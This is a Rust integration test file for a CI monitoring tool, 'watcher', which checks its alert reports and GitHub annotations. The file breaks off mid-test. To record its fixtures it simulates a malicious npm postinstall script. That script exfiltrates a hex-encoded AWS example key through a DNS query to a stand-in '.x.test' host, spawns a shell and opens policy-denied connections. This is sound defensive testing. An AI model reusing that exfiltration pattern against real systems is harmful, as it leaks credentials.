//! End-of-step reports: golden outputs (text, JSON, Markdown, SARIF) of `watcher replay` over
//! fixture logs recorded with real `watcher run`s (tests/fixtures/reports, no root needed to
//! check them), colour only on a terminal, the GitHub job summary, and `watcher run --report`.
//!
//! Regenerate the goldens after an intended change: `UPDATE_GOLDEN=1 cargo test --release -p
//! watcher-tests --test report`, then review the diff. Re-record the fixture logs (root):
//! `WATCHER_RECORD_FIXTURES=1 cargo test --release -p watcher-tests --test report record_fixtures`.
use std::{
    path::{Path, PathBuf},
    process::{Command, Stdio},
};

use serde_json::Value;
use watcher_tests::{DnsServer, Listener, netprobe_bin, read_jsonl, root_or_skip, watcher_bin};

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures").join("reports")
}

/// What varies between builds and machines, replaced by placeholders: watcher's own version
/// (SARIF names the tool's).
fn normalise(format: &str, out: &str) -> String {
    match format {
        "sarif" => {
            let mut v: Value = serde_json::from_str(out).expect("SARIF is JSON");
            // Numeric, as SARIF wants a version to be.
            for run in v["runs"].as_array_mut().expect("runs") {
                run["tool"]["driver"]["version"] = Value::from("0.0.0");
                run["tool"]["driver"]["semanticVersion"] = Value::from("0.0.0");
            }
            serde_json::to_string_pretty(&v).unwrap() + "\n"
        }
        _ => out.to_string(),
    }
}

fn replay(format: &str, log: &str, env: &[(&str, &str)]) -> (Option<i32>, String, String) {
    let mut c = Command::new(watcher_bin());
    c.current_dir(fixtures())
        .args(["replay", "--policy", "policy.yaml", "--format", format, log])
        .env_remove("GITHUB_STEP_SUMMARY")
        .env_remove("GITHUB_ACTIONS")
        .env_remove("FORCE_COLOR")
        .env_remove("NO_COLOR");
    for (k, v) in env {
        c.env(k, v);
    }
    let out = c.output().unwrap();
    (out.status.code(), String::from_utf8(out.stdout).unwrap(), String::from_utf8_lossy(&out.stderr).into_owned())
}

/// Compare with the golden file, or write it when UPDATE_GOLDEN=1.
fn golden(name: &str, actual: &str) {
    let path = fixtures().join("golden").join(name);
    if std::env::var_os("UPDATE_GOLDEN").is_some_and(|v| v == "1") {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, actual).unwrap();
        return;
    }
    let want = std::fs::read_to_string(&path)
        .unwrap_or_else(|e| panic!("{}: {e} (create it with UPDATE_GOLDEN=1)", path.display()));
    if want != actual {
        let diff: Vec<String> = want
            .lines()
            .zip(actual.lines())
            .enumerate()
            .filter(|(_, (a, b))| a != b)
            .take(5)
            .map(|(i, (a, b))| format!("line {}:\n  want: {a}\n  got:  {b}", i + 1))
            .collect();
        panic!(
            "{} differs from the output ({} vs {} lines):\n{}\n--- full output ---\n{actual}\n(regenerate with UPDATE_GOLDEN=1 if intended)",
            path.display(),
            want.lines().count(),
            actual.lines().count(),
            diff.join("\n")
        );
    }
}

const LOGS: &[(&str, i32)] = &[("alerts.jsonl", 77), ("clean.jsonl", 0), ("lost.jsonl", 77)];

#[test]
fn replay_reports_match_the_goldens() {
    for &(log, code) in LOGS {
        let stem = log.trim_end_matches(".jsonl");
        for (format, ext) in [("text", "txt"), ("json", "json"), ("markdown", "md"), ("sarif", "sarif")] {
            let (c, out, err) = replay(format, log, &[]);
            assert_eq!(c, Some(code), "{log} {format}: {err}");
            assert!(!out.contains('\x1b'), "{log} {format}: colour on a pipe");
            golden(&format!("{stem}.{ext}"), &normalise(format, &out));
        }
    }
    // The 250-alert step: its grouped summary and text (JSON and SARIF are checked below,
    // not kept: they list every process and alert).
    for (format, ext) in [("text", "txt"), ("markdown", "md")] {
        let (c, out, err) = replay(format, MANY, &[]);
        assert_eq!(c, Some(77), "{format}: {err}");
        golden(&format!("many.{ext}"), &out);
    }
}

/// A step of 450 processes (500 execs) in which 50 packages' install scripts make 250 denied connections
/// (recorded by `record_fixtures`, gzip-compressed).
const MANY: &str = "many.jsonl.gz";

/// GitHub's step summary is read by people: it stays under 64 KiB however many alerts, the
/// details collapse, the counts stay exact.
#[test]
fn the_summary_of_250_alerts_stays_under_64_kib_with_exact_counts() {
    let (_, json, _) = replay("json", MANY, &[]);
    let v: Value = serde_json::from_str(&json).unwrap();
    let alerts = v["logs"][0]["alerts"].as_array().unwrap();
    assert_eq!(alerts.len(), 250, "the fixture's alerts");
    let processes = v["logs"][0]["counts"]["processes"].as_u64().unwrap();
    assert!(processes >= 450, "{processes}");
    let packages: std::collections::BTreeSet<&str> = alerts.iter().map(|a| a["package"].as_str().unwrap()).collect();
    assert_eq!(packages.len(), 50);

    let (_, md, _) = replay("markdown", MANY, &[]);
    assert!(md.len() < 64 * 1024, "{} bytes", md.len());
    // The counts table and every group row, with exact counts.
    assert!(md.contains(&format!("| {processes} | ")), "{md}");
    assert!(md.contains(" | 250 | 0 |\n"), "alerts and lost in the counts table");
    let group_rows: Vec<&str> =
        md.lines().filter(|l| l.starts_with("| `high` | `egress-denied` | `npm:pkg-")).collect();
    assert_eq!(group_rows.len(), 50, "one row per package");
    let counted: u64 = group_rows.iter().map(|l| l.split(" | ").nth(3).unwrap().trim().parse::<u64>().unwrap()).sum();
    assert_eq!(counted, 250);
    // Details are cut to fit, and say so.
    assert!(md.contains("more alerts not shown here") || md.contains("more lines not shown here"), "{md}");
    assert!(md.contains("<details><summary>All 250 alerts</summary>"));

    // Several logs in one summary share the budget.
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("summary.md");
    let out = Command::new(watcher_bin())
        .current_dir(fixtures())
        .args(["replay", "--policy", "policy.yaml", MANY, MANY, MANY])
        .env("GITHUB_STEP_SUMMARY", &f)
        .env_remove("GITHUB_ACTIONS")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(77));
    let got = std::fs::read_to_string(&f).unwrap();
    assert!(got.len() < 64 * 1024, "{} bytes", got.len());
    assert_eq!(got.matches("### ❌ watcher: flagged").count(), 3);
}

/// The SARIF validator's binary (scripts/install-prereqs.sh installs it).
fn sarif_multitool() -> PathBuf {
    let lab = std::env::var_os("WATCHER_LAB_DIR").map(PathBuf::from).unwrap_or_else(|| "/opt/watcher-lab".into());
    let bin = lab.join("sarif-multitool-5.7.0/node_modules/@microsoft/sarif-multitool-linux/Sarif.Multitool");
    assert!(bin.exists(), "{} is missing: run scripts/install-prereqs.sh", bin.display());
    bin
}

/// Microsoft's SARIF validator finds no error and no warning in any SARIF golden, nor in the
/// SARIF of the 250-alert step.
#[test]
fn every_sarif_golden_passes_microsofts_sarif_validator() {
    let dir = tempfile::tempdir().unwrap();
    let mut files: Vec<PathBuf> = std::fs::read_dir(fixtures().join("golden"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "sarif"))
        .collect();
    assert!(files.len() >= 3, "{files:?}");
    let (_, many, _) = replay("sarif", MANY, &[]);
    let m = dir.path().join("many.sarif");
    std::fs::write(&m, many).unwrap();
    files.push(m);
    let out_log = dir.path().join("validation.sarif");
    let out = Command::new(sarif_multitool())
        .arg("validate")
        .args(["--level", "Error;Warning", "--output"])
        .arg(&out_log)
        .args(&files)
        .env("DOTNET_SYSTEM_GLOBALIZATION_INVARIANT", "1")
        .env("DOTNET_CLI_TELEMETRY_OPTOUT", "1")
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{stdout}{}", String::from_utf8_lossy(&out.stderr));
    let v: Value = serde_json::from_str(&std::fs::read_to_string(&out_log).unwrap()).unwrap();
    let results = v["runs"][0]["results"].as_array().unwrap();
    assert!(results.is_empty(), "the validator found problems:\n{stdout}");
    assert!(stdout.contains(&format!("{} files scanned", files.len())), "{stdout}");

    // And it does find problems: a rule whose name is its id is SARIF1001.
    let mut bad: Value = serde_json::from_str(&std::fs::read_to_string(&files[0]).unwrap()).unwrap();
    bad["runs"][0]["tool"]["driver"]["rules"][0]["name"] = bad["runs"][0]["tool"]["driver"]["rules"][0]["id"].clone();
    let bad_file = dir.path().join("bad.sarif");
    std::fs::write(&bad_file, bad.to_string()).unwrap();
    let out = Command::new(sarif_multitool())
        .args(["validate", "--level", "Error;Warning"])
        .arg(&bad_file)
        .env("DOTNET_SYSTEM_GLOBALIZATION_INVARIANT", "1")
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&out.stdout).contains("SARIF1001"), "{}", String::from_utf8_lossy(&out.stdout));
}

/// SARIF points at the package's lockfile entry, relative to the repository root, with a
/// fingerprint that does not change between runs and a security-severity per rule.
#[test]
fn sarif_points_at_the_lockfile_entry_of_the_package() {
    let (_, sarif, _) = replay("sarif", "alerts.jsonl", &[]);
    let v: Value = serde_json::from_str(&sarif).unwrap();
    let run = &v["runs"][0];
    let lock = std::fs::read_to_string(fixtures().join("package-lock.json")).unwrap();
    let line = lock.lines().position(|l| l.contains("\"node_modules/evil-pkg\": {")).unwrap() as u64 + 1;
    for res in run["results"].as_array().unwrap() {
        let loc = &res["locations"][0]["physicalLocation"];
        assert_eq!(loc["artifactLocation"]["uri"], "tests/fixtures/reports/package-lock.json", "{res:#}");
        assert_eq!(loc["artifactLocation"]["uriBaseId"], "%SRCROOT%");
        assert_eq!(loc["region"]["startLine"], line);
        assert!(res["partialFingerprints"]["watcherAlert/v1"].as_str().unwrap().len() == 16);
        assert!(res["properties"]["log_line"].as_u64().unwrap() > 1);
    }
    let fps: std::collections::BTreeSet<&str> = run["results"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["partialFingerprints"]["watcherAlert/v1"].as_str().unwrap())
        .collect();
    assert_eq!(fps.len(), run["results"].as_array().unwrap().len(), "distinct alerts, distinct fingerprints");
    for rule in run["tool"]["driver"]["rules"].as_array().unwrap() {
        let score: f64 = rule["properties"]["security-severity"].as_str().unwrap().parse().unwrap();
        assert!((4.0..=10.0).contains(&score), "{rule:#}");
        assert_ne!(rule["name"], rule["id"]);
    }
    // An alert of no package (lost events) points at the policy file.
    let (_, sarif, _) = replay("sarif", "lost.jsonl", &[]);
    let v: Value = serde_json::from_str(&sarif).unwrap();
    assert_eq!(
        v["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "tests/fixtures/reports/policy.yaml"
    );
}

/// `GITHUB_ACTIONS=true`: one annotation per alert group on stderr, escaped as the runner
/// requires, at the package's lockfile line; stdout (the report) unchanged.
#[test]
fn github_actions_gets_annotations_per_alert_group() {
    let (c, plain, _) = replay("sarif", "alerts.jsonl", &[]);
    let (c2, out, err) = replay("sarif", "alerts.jsonl", &[("GITHUB_ACTIONS", "true")]);
    assert_eq!((c, c2), (Some(77), Some(77)));
    assert_eq!(normalise("sarif", &out), normalise("sarif", &plain), "stdout stays the report");
    let ann: Vec<&str> = err.lines().filter(|l| l.starts_with("::")).collect();
    assert_eq!(ann.len(), 4, "{err}");
    let lock = std::fs::read_to_string(fixtures().join("package-lock.json")).unwrap();
    let line = lock.lines().position(|l| l.contains("\"node_modules/evil-pkg\": {")).unwrap() + 1;
    assert!(
        ann.contains(&format!(
            "::error title=watcher secret-exfil ×1 (npm%3Aevil-pkg@1.0.0 (postinstall)),file=tests/fixtures/reports/package-lock.json,line={line}::1 secret-exfil alert: 414b4941494f53464f444e4e374558414d504c45.x.test. RISKY: the value of AWS_ACCESS_KEY_ID left the machine: never allow this. Rotate the secret now, then remove the package that sent it"
        ).as_str()),
        "{err}"
    );
    let (_, _, err) = replay("text", "lost.jsonl", &[("GITHUB_ACTIONS", "true")]);
    assert!(
        err.lines().any(|l| l
            .starts_with("::warning title=watcher events-lost ×1,file=tests/fixtures/reports/policy.yaml,line=1::")),
        "{err}"
    );
    // Without GITHUB_ACTIONS, no workflow command.
    let (_, _, err) = replay("text", "alerts.jsonl", &[]);
    assert!(!err.contains("::"), "{err}");
}

#[test]
fn force_color_colours_a_pipe_and_force_color_0_does_not() {
    let (_, forced, _) = replay("text", "alerts.jsonl", &[("FORCE_COLOR", "1")]);
    assert!(forced.contains("\x1b[1;31m"), "{forced}");
    let (_, off, _) = replay("text", "alerts.jsonl", &[("FORCE_COLOR", "0")]);
    assert!(!off.contains('\x1b'));
}

/// A log recorded with `--mode audit` (its policy file says enforce) replays in audit mode,
/// unless `--mode` says otherwise.
#[test]
fn replay_keeps_the_recorded_mode() {
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("enforce.yaml");
    let base = std::fs::read_to_string(fixtures().join("policy.yaml")).unwrap();
    std::fs::write(&policy, base.replace("mode: audit", "mode: enforce")).unwrap();
    let log = dir.path().join("audit.jsonl");
    let text = std::fs::read_to_string(fixtures().join("alerts.jsonl")).unwrap();
    let mut lines: Vec<String> = text.lines().map(str::to_string).collect();
    let mut start: Value = serde_json::from_str(&lines[0]).unwrap();
    assert_eq!(start["policy"]["mode"], "audit");
    start["policy"]["source"] = Value::from(policy.display().to_string());
    lines[0] = start.to_string();
    std::fs::write(&log, lines.join("\n") + "\n").unwrap();
    let verdict = |extra: &[&str]| {
        let out =
            // The fixture predates `policy_yaml` in the start record: the policy is given (its
            // own mode is enforce; the recorded mode, audit, still wins unless --mode says).
            Command::new(watcher_bin())
                .args(["replay", "--format", "json", "--policy"])
                .arg(&policy)
                .args(extra)
                .arg(&log)
                .output()
                .unwrap();
        let v: Value = serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
        (
            v["logs"][0]["verdict"].as_str().unwrap().to_string(),
            v["logs"][0]["policy"]["mode"].as_str().unwrap().to_string(),
        )
    };
    assert_eq!(verdict(&[]), ("flagged".into(), "audit".into()));
    assert_eq!(verdict(&["--mode", "enforce"]), ("violation".into(), "enforce".into()));
    assert_eq!(verdict(&["--mode", "audit"]), ("flagged".into(), "audit".into()));
}

#[test]
fn reports_carry_the_tree_destinations_and_alerts() {
    // Independently of the goldens: the facts the fixture is known to hold.
    let (_, out, _) = replay("json", "alerts.jsonl", &[]);
    let v: Value = serde_json::from_str(&out).unwrap();
    let r = &v["logs"][0];
    assert_eq!(r["verdict"], "flagged");
    assert_eq!(r["exit_code"], 0);
    assert_eq!(r["watcher_exit_code"], 77);
    let rules: Vec<&str> = r["alerts"].as_array().unwrap().iter().map(|a| a["rule"].as_str().unwrap()).collect();
    for rule in ["egress-denied", "dns-denied", "shell-from-install-script", "secret-exfil"] {
        assert!(rules.contains(&rule), "{rule} missing: {rules:?}");
    }
    assert!(
        r["alerts"]
            .as_array()
            .unwrap()
            .iter()
            .all(|a| a["package"].as_str().is_some_and(|p| p.starts_with("npm:evil-pkg@1.0.0")))
    );
    let procs = r["processes"].as_array().unwrap();
    assert!(procs.len() > 30, "the fixture has a big boring subtree");
    assert!(procs.iter().any(|p| p["install_script"]["package"] == "evil-pkg"));
    let dest = r["destinations"].as_array().unwrap();
    assert!(dest.iter().any(|d| d["names"][0] == "ok.watcher.test"), "{dest:?}");
    assert!(dest.iter().any(|d| d["names"].as_array().unwrap().is_empty()));
    // The text tree collapses the /bin/true loop but keeps the processes that did something.
    let (_, text, _) = replay("text", "alerts.jsonl", &[]);
    assert!(text.contains("more processes: true ×"), "{text}");
    assert!(text.lines().filter(|l| l.contains(" true")).count() < 5, "{text}");
    assert!(text.contains("netprobe") && text.contains("[npm:evil-pkg@1.0.0 (postinstall)]"), "{text}");
    // SARIF: one result per alert, every rule id is a declared rule with help.
    let (_, sarif, _) = replay("sarif", "alerts.jsonl", &[]);
    let s: Value = serde_json::from_str(&sarif).unwrap();
    assert_eq!(s["version"], "2.1.0");
    let run = &s["runs"][0];
    assert_eq!(run["results"].as_array().unwrap().len(), rules.len());
    let declared: Vec<&str> =
        run["tool"]["driver"]["rules"].as_array().unwrap().iter().map(|r| r["id"].as_str().unwrap()).collect();
    for res in run["results"].as_array().unwrap() {
        let id = res["ruleId"].as_str().unwrap();
        assert_eq!(declared[res["ruleIndex"].as_u64().unwrap() as usize], id);
        assert!(res["locations"][0]["physicalLocation"]["region"]["startLine"].as_u64().unwrap() > 1);
    }
    assert!(
        run["tool"]["driver"]["rules"]
            .as_array()
            .unwrap()
            .iter()
            .all(|r| r["help"]["text"].as_str().unwrap().len() > 40)
    );

    // Lost events: counted per source, an events-lost alert, said in every format.
    let (_, out, _) = replay("json", "lost.jsonl", &[]);
    let v: Value = serde_json::from_str(&out).unwrap();
    let lost = v["logs"][0]["lost"].as_u64().unwrap();
    assert!(lost > 0 && v["logs"][0]["lost_by_source"]["exec"].as_u64() == Some(lost), "{v:#}");
    assert_eq!(v["logs"][0]["alerts"][0]["rule"], "events-lost");
    let (_, text, _) = replay("text", "lost.jsonl", &[]);
    assert!(text.contains(&format!("LOST {lost} exec events")), "{text}");
    let (_, md, _) = replay("markdown", "lost.jsonl", &[]);
    assert!(md.contains("#### Lost events") && md.contains(&format!("| `exec` | {lost} |")), "{md}");
}

#[test]
fn colour_only_on_a_terminal_and_never_with_no_color() {
    // `script` gives the command a pseudo-terminal as stdout.
    let run = |no_color: Option<&str>| {
        let cmd = format!("{} replay --policy policy.yaml alerts.jsonl", watcher_bin().display());
        let mut c = Command::new("script");
        c.current_dir(fixtures()).args(["-qec", &cmd, "/dev/null"]).stdin(Stdio::null()).env_remove("NO_COLOR");
        if let Some(v) = no_color {
            c.env("NO_COLOR", v);
        }
        let out = c.output().expect("script(1) from util-linux");
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let tty = run(None);
    assert!(tty.contains("\x1b[1;31m") && tty.contains("summary:"), "no colour on a terminal: {tty:?}");
    let no = run(Some("1"));
    assert!(no.contains("summary:") && !no.contains('\x1b'), "colour despite NO_COLOR: {no:?}");
    let (_, piped, _) = replay("text", "alerts.jsonl", &[]);
    assert!(!piped.contains('\x1b'));
}

#[test]
fn github_step_summary_gets_the_markdown_appended() {
    let dir = tempfile::tempdir().unwrap();
    let f = dir.path().join("summary.md");
    std::fs::write(&f, "# earlier step\n\n").unwrap();
    let (c, out, err) = replay("text", "alerts.jsonl", &[("GITHUB_STEP_SUMMARY", f.to_str().unwrap())]);
    assert_eq!(c, Some(77), "{err}");
    assert!(out.contains("summary:"));
    let (_, md, _) = replay("markdown", "alerts.jsonl", &[]);
    let got = std::fs::read_to_string(&f).unwrap();
    assert_eq!(got, format!("# earlier step\n\n{md}"));
    assert!(got.contains("<details><summary>Process tree"));
    // An unwritable summary file is a warning, not a failure of the step.
    let (c, _, err) = replay("text", "clean.jsonl", &[("GITHUB_STEP_SUMMARY", "/nonexistent-dir/x.md")]);
    assert_eq!(c, Some(0));
    assert!(err.contains("warning: cannot append the report to GITHUB_STEP_SUMMARY"), "{err}");
}

/// Re-record the fixture logs from real runs (root; only when WATCHER_RECORD_FIXTURES=1, or
/// `=many` for the 250-alert log alone).
/// Paths of this machine are replaced by neutral ones so the fixtures do not depend on it.
#[test]
fn record_fixtures() {
    let Some(which) = std::env::var_os("WATCHER_RECORD_FIXTURES") else { return };
    if !root_or_skip() {
        return;
    }
    if which == "many" {
        // Only the 250-alert log (with the policy.yaml there is).
        record_many(Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap());
        return;
    }
    let dns_ip = "127.53.0.71";
    let _dns =
        DnsServer::start(dns_ip.parse().unwrap(), vec![("ok.watcher.test".into(), vec!["127.0.0.1".parse().unwrap()])])
            .unwrap();
    let ok = Listener::start("127.0.0.1:0".parse().unwrap()).unwrap();
    let other = Listener::start("127.0.0.2:0".parse().unwrap()).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let policy = format!(
        "version: 1\npipeline: reports-fixture\nmode: audit\negress:\n  loopback: false\n  allow:\n    - host: ok.watcher.test\n      ports: [{}]\ndns:\n  resolvers: [{dns_ip}]\nsecrets:\n  env: [\"AWS_*\"]\nexec:\n  install_scripts:\n    shells: deny\n",
        ok.addr().port()
    );
    let pf = dir.path().join("policy.yaml");
    std::fs::write(&pf, &policy).unwrap();
    std::fs::write(fixtures().join("policy.yaml"), &policy).unwrap();
    let p = netprobe_bin().display().to_string();
    let ok_conn = format!("{p} dns-sendto {dns_ip} ok.watcher.test A tcp 127.0.0.1:{}", ok.addr().port());
    let scripts = [
        (
            "alerts.jsonl",
            format!(
                "{ok_conn} tcp {} dns-sendto {dns_ip} 414b4941494f53464f444e4e374558414d504c45.x.test A; sh -c true; for i in $(seq 40); do /bin/true; done",
                other.addr()
            ),
        ),
        ("clean.jsonl", format!("{ok_conn}; /bin/true")),
        // A one-page ring buffer and a burst of parallel execs: events are lost.
        ("lost.jsonl", "seq 60 | xargs -P 8 -n 1 /bin/true".to_string()),
    ];
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap().to_path_buf();
    for (name, script) in scripts {
        let log = dir.path().join(name);
        let ringbuf = if name == "lost.jsonl" { "4K" } else { "16M" };
        let out = Command::new(watcher_bin())
            .args(["run", "-q", "--ringbuf-size", ringbuf, "--policy"])
            .arg(&pf)
            .arg("--log")
            .arg(&log)
            .args(["--", "sh", "-c", &script])
            .env("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE")
            .env("npm_lifecycle_event", "postinstall")
            .env("npm_package_name", "evil-pkg")
            .env("npm_package_version", "1.0.0")
            .stdin(Stdio::null())
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        let text = std::fs::read_to_string(&log)
            .unwrap()
            .replace(&dir.path().display().to_string(), "/tmp/fixture")
            .replace(&netprobe_bin().parent().unwrap().display().to_string(), "/opt/watcher-tests/bin")
            .replace(&root.display().to_string(), "/src/watcher");
        std::fs::write(fixtures().join(name), text).unwrap();
    }
    record_many(&root);
}

/// The 250-alert fixture: 50 packages' install scripts, each making 5 connections the policy
/// (the fixture's `policy.yaml`, loopback not allowed) denies, and running 8 more processes.
fn record_many(root: &Path) {
    let listeners: Vec<Listener> = (0..5).map(|_| Listener::start("127.0.0.2:0".parse().unwrap()).unwrap()).collect();
    let dir = tempfile::tempdir().unwrap();
    let p = netprobe_bin().display().to_string();
    let tcp: Vec<String> = listeners.iter().map(|l| format!("tcp {}", l.addr())).collect();
    let script = format!(
        "for i in $(seq 10 59); do env npm_lifecycle_event=postinstall npm_package_name=pkg-$i npm_package_version=1.0.$i \
         sh -c '{p} {} >/dev/null; for j in 1 2 3 4 5 6 7; do /bin/true; done'; done",
        tcp.join(" ")
    );
    let log = dir.path().join("many.jsonl");
    let out = Command::new(watcher_bin())
        .args(["run", "-q", "--policy"])
        .arg(fixtures().join("policy.yaml"))
        .arg("--log")
        .arg(&log)
        .args(["--", "sh", "-c", &script])
        .current_dir(dir.path())
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let text = std::fs::read_to_string(&log)
        .unwrap()
        .replace(&dir.path().display().to_string(), "/tmp/fixture")
        .replace(&netprobe_bin().parent().unwrap().display().to_string(), "/opt/watcher-tests/bin")
        .replace(&fixtures().display().to_string(), "/src/watcher/tests/fixtures/reports")
        .replace(&root.display().to_string(), "/src/watcher");
    let f = std::fs::File::create(fixtures().join(MANY)).unwrap();
    let mut gz = flate2::write::GzEncoder::new(f, flate2::Compression::best());
    std::io::Write::write_all(&mut gz, text.as_bytes()).unwrap();
    gz.finish().unwrap();
}

/// `watcher run --report FILE` writes the report (format by extension) without touching the
/// command's stdout, and appends Markdown to GITHUB_STEP_SUMMARY.
#[test]
fn run_writes_its_report_to_a_file_and_the_step_summary() {
    if !root_or_skip() {
        return;
    }
    let dns_ip = "127.53.0.72";
    let _dns =
        DnsServer::start(dns_ip.parse().unwrap(), vec![("ok.watcher.test".into(), vec!["127.0.0.1".parse().unwrap()])])
            .unwrap();
    let ok = Listener::start("127.0.0.1:0".parse().unwrap()).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let pf = dir.path().join("p.yaml");
    std::fs::write(
        &pf,
        format!("version: 1\npipeline: rep\negress:\n  loopback: false\ndns:\n  resolvers: [{dns_ip}]\n"),
    )
    .unwrap();
    let p = netprobe_bin().display().to_string();
    let summary = dir.path().join("step-summary.md");
    for (file, format) in [("r.json", None), ("r.sarif", None), ("r.out", Some("markdown"))] {
        let report = dir.path().join(file);
        let log = dir.path().join(format!("{file}.jsonl"));
        let mut c = Command::new(watcher_bin());
        c.args(["run", "-q", "--policy"]).arg(&pf).arg("--log").arg(&log).arg("--report").arg(&report);
        if let Some(f) = format {
            c.args(["--report-format", f]);
        }
        let out = c
            .args([
                "--",
                "sh",
                "-c",
                &format!(
                    "echo hello-stdout; {p} dns-sendto {dns_ip} ok.watcher.test A tcp 127.0.0.1:{} >/dev/null",
                    ok.addr().port()
                ),
            ])
            .env("GITHUB_STEP_SUMMARY", &summary)
            .env_remove("NO_COLOR")
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(0), "{err}");
        assert_eq!(String::from_utf8_lossy(&out.stdout), "hello-stdout\n", "stdout belongs to the command");
        assert!(err.contains("watcher: summary:") && err.contains("watcher: verdict: flagged"), "{err}");
        assert!(!err.contains('\x1b'), "colour on a pipe: {err}");
        let text = std::fs::read_to_string(&report).unwrap();
        match file {
            "r.json" => {
                let v: Value = serde_json::from_str(&text).unwrap();
                assert_eq!(v["verdict"], "flagged");
                assert_eq!(v["exit_code"], 0);
                assert!(
                    v["processes"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .any(|p| p["filename"].as_str().is_some_and(|f| f.ends_with("netprobe")))
                );
                assert!(v["dns"].as_array().unwrap().iter().any(|d| d["name"] == "ok.watcher.test"));
                assert!(
                    v["destinations"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .any(|d| d["names"][0] == "ok.watcher.test" && d["port"] == ok.addr().port())
                );
                // The alerts are exactly the ones in the log.
                let logged: Vec<Value> = read_jsonl(&log).into_iter().filter(|e| e["kind"] == "alert").collect();
                assert_eq!(v["alerts"].as_array().unwrap().len(), logged.len());
                assert!(!logged.is_empty());
            }
            "r.sarif" => {
                let v: Value = serde_json::from_str(&text).unwrap();
                assert_eq!(v["version"], "2.1.0");
                assert!(v["runs"][0]["results"].as_array().unwrap().iter().any(|r| r["ruleId"] == "egress-denied"));
            }
            _ => assert!(text.starts_with("### ❌ watcher: flagged"), "{text}"),
        }
    }
    let md = std::fs::read_to_string(&summary).unwrap();
    assert_eq!(md.matches("### ❌ watcher: flagged").count(), 3, "appended once per run: {md}");
    assert!(md.contains("| `127.0.0.1` |"), "{md}");
}

/// A policy allowing a registry the log recorded no hosts for: one warning naming it.
#[test]
fn replay_warns_about_a_registry_the_log_did_not_record() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("npm.yaml");
    let base = std::fs::read_to_string(fixtures().join("policy.yaml")).unwrap();
    std::fs::write(&p, base.replace("egress:\n", "egress:\n  registries: [npm]\n")).unwrap();
    let out = Command::new(watcher_bin())
        .current_dir(fixtures())
        .args(["replay", "--format", "json", "--policy"])
        .arg(&p)
        .arg("clean.jsonl")
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{err}");
    assert_eq!(err.matches("warning").count(), 1, "{err}");
    assert!(err.contains("clean.jsonl: the policy allows registry npm, but the log recorded no hosts for it"), "{err}");
}

/// `watcher run` colours its end-of-step report on a terminal stderr, not with NO_COLOR.
#[test]
fn run_colours_its_report_only_on_a_terminal() {
    if !root_or_skip() {
        return;
    }
    let run = |no_color: bool| {
        let cmd = format!("{} run -- /bin/true", watcher_bin().display());
        let mut c = Command::new("script");
        c.args(["-qec", &cmd, "/dev/null"])
            .stdin(Stdio::null())
            .env_remove("NO_COLOR")
            .env_remove("GITHUB_STEP_SUMMARY");
        if no_color {
            c.env("NO_COLOR", "1");
        }
        let out = c.output().expect("script(1) from util-linux");
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stdout));
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let tty = run(false);
    assert!(tty.contains("\x1b[1msummary:") && tty.contains("\x1b[32mclean"), "{tty:?}");
    let plain = run(true);
    assert!(plain.contains("summary:") && plain.contains("verdict: clean") && !plain.contains('\x1b'), "{plain:?}");
}

/// In CI (`CI=true`) `watcher run` prints no line per event unless `--verbose`; under GitHub
/// Actions its report is folded into a group with commands stopped, followed by one
/// annotation per alert group; every alert's message is printed exactly once.
#[test]
fn in_ci_live_lines_are_quiet_and_each_alert_is_printed_once() {
    if !root_or_skip() {
        return;
    }
    let target = Listener::start("127.0.0.1:0".parse().unwrap()).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let pf = dir.path().join("p.yaml");
    std::fs::write(&pf, "version: 1\npipeline: ci-quiet\negress:\n  loopback: false\n").unwrap();
    let p = netprobe_bin().display().to_string();
    let script = format!("{p} tcp {} >/dev/null; /bin/true", target.addr());
    let message = format!("connect to {}/tcp is not allowed by policy", target.addr());
    let run = |env: &[(&str, &str)], extra: &[&str]| {
        let mut c = Command::new(watcher_bin());
        c.args(["run", "--policy"]).arg(&pf).args(extra).args(["--", "sh", "-c", &script]);
        c.env_remove("CI").env_remove("GITHUB_ACTIONS").env_remove("GITHUB_STEP_SUMMARY").stdin(Stdio::null());
        for (k, v) in env {
            c.env(k, v);
        }
        let out = c.output().unwrap();
        assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8_lossy(&out.stderr).into_owned()
    };
    let once = |err: &str| assert_eq!(err.matches(&message).count(), 1, "{message} not exactly once:\n{err}");

    let plain = run(&[], &[]);
    assert!(plain.contains("watcher: exec    /bin/true"), "{plain}");
    assert!(plain.contains("watcher: alerts: 1 in 1 group (by rule and package):"), "{plain}");
    once(&plain);
    assert!(!plain.contains("::"), "{plain}");

    let ci = run(&[("CI", "true")], &[]);
    assert!(!ci.contains("watcher: exec"), "{ci}");
